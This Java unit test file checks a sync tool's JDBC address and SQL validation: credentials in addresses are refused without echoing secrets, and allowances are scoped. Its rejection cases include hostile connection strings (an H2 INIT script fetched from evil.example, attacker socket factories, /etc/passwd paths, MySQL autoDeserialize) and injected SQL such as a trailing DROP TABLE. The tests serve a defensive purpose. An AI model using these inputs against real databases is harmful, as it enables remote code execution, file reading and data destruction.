package org.periplus.sync;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.periplus.model.KpiSource;

/** What content may name as an address, and what the caller's allowances let through. */
class AddressTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://ada:secret@db.example/sales",
                "jdbc:postgresql://ada@db.example/sales",
                "jdbc:postgresql://db.example/sales?user=ada",
                "jdbc:postgresql://db.example/sales?sslmode=require&PASSWORD=secret",
                "jdbc:trino://db.example/hive?accessToken=secret",
                "jdbc:mysql://db.example/sales?user=ada",
                "jdbc:sqlserver://db.example;user=ada;password=secret",
                "jdbc:oracle:thin:ada/secret@db.example:1521/sales",
            })
    void anAddressWithCredentialsIsRefusedAndNotRepeated(String address) {
        assertThat(KpiSource.holdsCredentials(address)).isTrue();
        assertThatThrownBy(() -> DatabaseAddress.of(address))
                .hasMessageContaining("a name or a password stands in this address")
                .hasMessageNotContaining("secret");
        assertThatThrownBy(() -> Allowance.of(address)).hasMessageNotContaining("secret");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db.example/sales?socketFactory=org.evil.Factory&socketFactoryArg=x",
                "jdbc:postgresql://db.example/sales?sslfactory=org.evil.Factory",
                "jdbc:postgresql://db.example/sales?loggerFile=/tmp/x&loggerLevel=DEBUG",
                "jdbc:postgresql://db.example/sales?sslmode=disable",
                "jdbc:postgresql://db.example/sales?sslrootcert=/etc/passwd",
                "jdbc:postgresql://db.example/sales?options=-c%20role=admin",
                "jdbc:postgresql://db.example/sales?readOnly=false",
                "jdbc:postgresql://db.example,evil.example/sales",
                "jdbc:postgresql://db.example:5432,evil.example:5432/sales",
                "jdbc:postgresql://db.example%2eevil/sales",
                "jdbc:postgresql:///sales",
                "jdbc:postgresql:sales",
                "jdbc:postgresql://db.example/a/../b/c",
                "jdbc:trino://db.example/hive?socksProxy=evil.example:1080",
                "jdbc:trino://db.example/hive?SSL=true&SSLVerification=NONE",
                "jdbc:trino://db.example/hive?extraCredentials=a:b",
                "jdbc:duckdb:/data/x.duckdb;session_init_sql_file=/tmp/x.sql",
                "jdbc:duckdb:s3://bucket/x.duckdb",
                "jdbc:duckdb:/data/*.duckdb",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:mem:x",
                "jdbc:mysql://db.example/sales?autoDeserialize=true",
                "jdbc:sqlite:/etc/passwd",
                "JDBC:postgresql://db.example/sales",
                "ldap://db.example",
                "",
            })
    void anAddressThatCouldDoMoreThanReadIsRefusedWhoeverAllowsIt(String address) {
        assertThatThrownBy(() -> DatabaseAddress.of(address)).isInstanceOf(SyncRefusal.class);
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://db.example/sales, jdbc:postgresql://db.example/sales, true",
        "jdbc:postgresql://db.example/, jdbc:postgresql://db.example/sales, true",
        "jdbc:postgresql://db.example, jdbc:postgresql://db.example/sales, true",
        "jdbc:postgresql://db.example/sales, jdbc:postgresql://db.example/sales?sslmode=require, true",
        "jdbc:postgresql://db.example/sales?sslmode=require, jdbc:postgresql://db.example/sales?sslmode=require&currentSchema=x, true",
        "jdbc:postgresql://db.example/sales?sslmode=require, jdbc:postgresql://db.example/sales, false",
        "jdbc:postgresql://db.example, jdbc:postgresql://db.example:15432/sales, false",
        "jdbc:postgresql://db.example, jdbc:postgresql://db.example.evil.org/sales, false",
        "jdbc:postgresql://db.example/sales, jdbc:postgresql://db.example/sales-secret, false",
        "jdbc:postgresql://db.example/sales, jdbc:trino://db.example/sales, false",
        "jdbc:duckdb:, jdbc:postgresql://db.example/sales, false",
        "sales=jdbc:trino://db.example:8443/hive, jdbc:trino://db.example:8443/hive/web?SSL=true, true",
    })
    void anAllowanceEndsWhereAPartOfTheAddressEnds(String allowance, String address, boolean covered)
            throws SyncRefusal {
        assertThat(Allowance.of(allowance).covers(DatabaseAddress.of(address))).isEqualTo(covered);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "postgres",
                "jdbc:postgresql:",
                "jdbc:postgresql://",
                "jdbc:h2:mem:x",
                "jdbc:",
                "A b=jdbc:duckdb:",
                "jdbc:duckdb:data"
            })
    void anAllowanceNamesAHostOrAWholePath(String allowance) {
        assertThatThrownBy(() -> Allowance.of(allowance)).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void aNameSaysWhichVariablesHoldTheCredentials() {
        assertThat(Allowance.all(" sales=jdbc:postgresql://a.example \n jdbc:duckdb: "))
                .extracting(one -> one.variable("USER"))
                .containsExactly("PERIPLUS_DB_SALES_USER", "PERIPLUS_DB_USER");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "DELETE FROM bookings",
                "INSERT INTO x VALUES (1)",
                "COPY x TO '/tmp/x'",
                "-- a remark\nSELECT 1",
                "SELECT 1; DROP TABLE bookings",
                "SELECT ';' AS note",
                "selection",
                "PRAGMA version",
                "SET x = 1",
                "ATTACH 'x'",
                "CALL f()",
            })
    void aQueryIsOneStatementThatReads(String query) {
        assertThatThrownBy(() -> SelectText.of(query)).isInstanceOf(SyncRefusal.class);
    }

    @Test
    void aSemicolonAtTheEndIsForgiven() throws SyncRefusal {
        assertThat(SelectText.of(" with x as (select 1) select * from x ; \n").text())
                .isEqualTo("with x as (select 1) select * from x");
    }
}
